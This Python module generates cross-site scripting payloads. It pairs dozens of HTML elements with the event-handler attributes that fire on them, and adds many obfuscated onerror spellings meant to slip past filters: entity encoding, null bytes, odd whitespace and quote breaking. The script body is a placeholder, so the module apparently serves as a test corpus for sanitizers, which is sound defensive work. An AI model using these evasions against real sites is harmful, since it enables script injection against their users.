"""Attributes that are script: each event on an element that has it, and spellings of one."""

from __future__ import annotations

from collections.abc import Iterator

_BY_ELEMENT = {
    "<img src=x {}>": "error load click mouseover mouseenter pointerover contextmenu dragstart",
    "<img src=@img@ {}>": "load loadstart",
    "<p {}>words</p>": "click dblclick auxclick mousedown mouseup mousemove mouseout wheel copy cut"
    " paste pointerdown pointerup pointermove pointerenter pointerleave touchstart touchend"
    " touchmove touchcancel gotpointercapture lostpointercapture beforecopy beforecut beforepaste"
    " selectstart scroll scrollend animationstart animationend animationiteration transitionend"
    " transitionrun transitionstart transitioncancel webkitanimationstart webkittransitionend"
    " fullscreenchange beforematch securitypolicyviolation beforexrselect contentvisibilityautostatechange",
    "<a href=https://example.org/ {}>words</a>": "focus blur focusin focusout keydown keypress"
    " keyup click mouseover dragend drop dragover dragenter dragleave drag",
    "<details open {}><summary>words</summary>more</details>": "toggle click",
    "<summary {}>words</summary>": "click focus",
    "<ol {}><li>words</ol>": "mouseover",
    "<table {}><tr><td>words</table>": "mouseover",
    "<td {}>words</td>": "mouseover",
    "<time datetime=2022-11-13 {}>words</time>": "click",
    "<ins {}>words</ins>": "click",
    "<q cite=https://example.org/ {}>words</q>": "click",
    "<body {}>": "load pageshow hashchange message focus beforeunload resize popstate storage"
    " unhandledrejection afterprint online",
    "<svg {}>": "load click begin",
    "<video {}><source src=x></video>": "error loadstart play canplay",
    "<video src=x {}></video>": "error loadstart stalled",
    "<audio src=x {}></audio>": "error loadstart",
    "<input autofocus {}>": "focus input change invalid select search beforeinput",
    "<form {}><input type=submit></form>": "submit reset formdata",
    "<marquee {}>words</marquee>": "start finish bounce",
    "<style {}>p{{color:red}}</style>": "load",
    "<link rel=stylesheet href=data:text/css,x {}>": "load error",
    "<object data=x {}></object>": "error load",
    "<iframe {}></iframe>": "load",
    "<isindex {}>": "focus",
    "<dialog open {}>words</dialog>": "close cancel click",
    "<track {}>": "error cuechange",
    "<button popovertarget=x>b</button><div popover id=x {}>words</div>": "beforetoggle toggle",
    "<xss {}>words</xss>": "click focus mouseover",
    "<my-element {} tabindex=1>words</my-element>": "focusin pointerrawupdate",
}
# How the name, the sign and the value may be written.
_SPELLINGS = (
    *("onerror=@run@", "ONERROR=@run@", "oNeRrOr=@run@", 'onerror="@run@"', "onerror='@run@'"),
    *("onerror =@run@", "onerror= @run@", "onerror\t=\n@run@", "onerror\f=\f'@run@'"),
    *("onerror\r=\r'@run@'", "/onerror=@run@", "//onerror=@run@", "x/onerror=@run@"),
    *('x="y"onerror=@run@', "x='y'onerror=@run@", 'x="/onerror=@run@', "x=`onerror=@run@ `"),
    *("onerror=&#114;an(@n@)", "onerror=&#x72;an(@n@)", "onerror=&#0000114an(@n@)"),
    *('onerror="&#10;@run@"', 'onerror="@run@&#47;&#47;"', "onerror=ran&lpar;@n@&rpar;"),
    *("onerror=ran&lpar;@n@&rpar", "onerror=a=1,@run@", "onerror=`${@run@}`", "onerror=ran`@n@`"),
    *("onerror=javascript:@run@", "onerror=vbs:x onerror=@run@", "onerror=@run@ onerror=x"),
    *('onerror\0="@run@"', '\0onerror="@run@"', 'on\0error="@run@"', 'onerror="\0@run@"'),
    *('"onerror=@run@ x="', "'onerror=@run@ x='", '""""onerror=@run@', "=onerror=@run@"),
    *('alt="`onerror=@run@"', "alt='\"' onerror=@run@ '", "alt=<b onerror=@run@ >"),
    *("alt=1>2 onerror=@run@", "onerror\u3000=@run@", "\u00a0onerror=@run@", "\u2028onerror=@run@"),
    *("\x0bonerror=@run@", "\x1fonerror=@run@", "onerror\x0b=@run@", "onerror=\x0b@run@"),
    *(
        "<onerror=@run@",
        "xml:onerror=@run@",
        "xlink:onerror=@run@ onerror='@run@'",
        "ſonerror=@run@",
    ),
    *('onerror="@run@\u2029"', "onerror=&Tab;@run@", "onerror='@run@&NewLine;'"),
)


def payloads() -> Iterator[str]:
    for element, events in _BY_ELEMENT.items():
        for event in events.split():
            yield element.replace("{{", "{").replace("}}", "}").replace("{}", f'on{event}="@run@"')
    for spelling in _SPELLINGS:
        yield f"<img src=x {spelling}>"
    for tag in "a b bdo blockquote code div figure h2 hr li mark pre span sup td u wbr".split():
        yield f"<{tag} onclick=@run@ onmouseover=@run@ style=color:red id=x tabindex=0>words</{tag}>"
